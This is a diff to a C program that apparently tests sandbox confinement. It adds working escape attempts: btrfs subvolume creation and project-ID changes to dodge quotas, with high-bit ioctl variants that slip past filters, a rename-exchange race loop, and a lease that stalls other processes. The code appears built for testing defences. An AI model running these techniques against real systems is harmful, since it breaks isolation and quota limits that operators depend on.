@@ -5,12 +5,19 @@
  *
  *	attack tiocsti | shocker [PATH] | key NAME | exe SECONDS | raw DEVICE
  *	attack newmount FSTYPE:DIR | bind SOURCE:DIR | writable DIR | adrift DIR:FILE
+ *	attack subvolume DIR			in a directory on btrfs
+ *	attack swap SECONDS:A:B			exchange two names, over and over
+ *	attack lease SECONDS:FILE		have others wait that open it
+ *	attack project DIR			take it out of its project, for quotas
  *	attack with-key NAME COMMAND ...	on the host: run it with a key in its session
  */
 #define _GNU_SOURCE
 #include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
+#include <linux/btrfs.h>
+#include <linux/fs.h>
+#include <signal.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
@@ -51,6 +58,78 @@ static int shocker(const char *arg)
 	}
 	fd = open_by_handle_at(dir, &u.h, O_RDONLY | O_DIRECTORY);
 	return fd >= 0;
+}
+
+/* By the flags, by the attributes, and, from 6.17 on, by the system call. */
+static int project(const char *arg)
+{
+	struct {
+		unsigned long long xflags;
+		unsigned int extsize, nextents, projid, cowextsize;
+	} a = { .projid = 0 };
+	int fd = open(arg, O_RDONLY | O_DIRECTORY), flags = 0, done = 0;
+	struct fsxattr x, y;
+
+	if (fd < 0 || ioctl(fd, FS_IOC_FSGETXATTR, &x) < 0)
+		return 0;
+	if (ioctl(fd, FS_IOC_GETFLAGS, &flags) == 0) {
+		flags &= ~FS_PROJINHERIT_FL;
+		ioctl(fd, FS_IOC_SETFLAGS, &flags);
+	}
+	y = x;
+	y.fsx_xflags &= ~(unsigned int)FS_XFLAG_PROJINHERIT;
+	ioctl(fd, FS_IOC_FSSETXATTR, &y);
+	y = x;
+	y.fsx_projid++;
+	ioctl(fd, FS_IOC_FSSETXATTR, &y);
+	if (syscall(468, AT_FDCWD, arg, &a, sizeof(a), 0) == 0) {
+		a.projid = x.fsx_projid + 2;
+		syscall(469, AT_FDCWD, arg, &a, sizeof(a), 0);
+	}
+	if (ioctl(fd, FS_IOC_FSGETXATTR, &y) == 0)
+		done = y.fsx_projid != x.fsx_projid ||
+		       ((x.fsx_xflags ^ y.fsx_xflags) & FS_XFLAG_PROJINHERIT);
+	return done;
+}
+
+/* A subvolume of its own, which no limit of another counts: by either call, and with high bits. */
+static int subvolume(const char *arg)
+{
+	struct btrfs_ioctl_vol_args a = { .name = "escaped" };
+	struct btrfs_ioctl_vol_args_v2 b = { .name = "escaped" };
+	int dir = open(arg, O_RDONLY | O_DIRECTORY);
+
+	return syscall(SYS_ioctl, dir, (unsigned long)BTRFS_IOC_SUBVOL_CREATE, &a) == 0 ||
+	       syscall(SYS_ioctl, dir, BTRFS_IOC_SUBVOL_CREATE | 1UL << 32, &a) == 0 ||
+	       syscall(SYS_ioctl, dir, (unsigned long)BTRFS_IOC_SUBVOL_CREATE_V2, &b) == 0 ||
+	       syscall(SYS_ioctl, dir, BTRFS_IOC_SUBVOL_CREATE_V2 | 1UL << 32, &b) == 0;
+}
+
+/* What is looked at under a name is soon another thing. */
+static int swap(const char *arg)
+{
+	char *copy = strdup(arg), *a = strchr(copy, ':'), *b = a ? strchr(a + 1, ':') : NULL;
+	time_t end = time(NULL) + atol(copy);
+	int done = 0;
+
+	if (!b)
+		return 0;
+	*a++ = *b++ = '\0';
+	while (time(NULL) < end)
+		done |= renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0;
+	return done;
+}
+
+static int lease(const char *arg)
+{
+	const char *file = strchr(arg, ':');
+	int fd = file ? open(file + 1, O_RDWR) : -1;
+
+	signal(SIGIO, SIG_IGN);
+	if (fd < 0 || fcntl(fd, F_SETLEASE, F_WRLCK) < 0)
+		return 0;
+	sleep((unsigned int)atol(arg));
+	return 1;
 }
 
 /* Find a key of the caller's session. */
@@ -190,9 +269,19 @@ int main(int argc, char **argv)
 	static const struct {
 		const char *name;
 		int (*run)(const char *arg);
-	} attacks[] = { { "tiocsti", tiocsti }, { "shocker", shocker },	  { "key", key },
-			{ "exe", exe },		{ "raw", raw },		  { "newmount", newmount },
-			{ "bind", bind },	{ "writable", writable }, { "adrift", adrift } };
+	} attacks[] = { { "tiocsti", tiocsti },
+			{ "shocker", shocker },
+			{ "key", key },
+			{ "exe", exe },
+			{ "raw", raw },
+			{ "newmount", newmount },
+			{ "bind", bind },
+			{ "writable", writable },
+			{ "adrift", adrift },
+			{ "swap", swap },
+			{ "lease", lease },
+			{ "project", project },
+			{ "subvolume", subvolume } };
 
 	if (argc > 3 && !strcmp(argv[1], "with-key"))
 		return with_key(argv + 2);
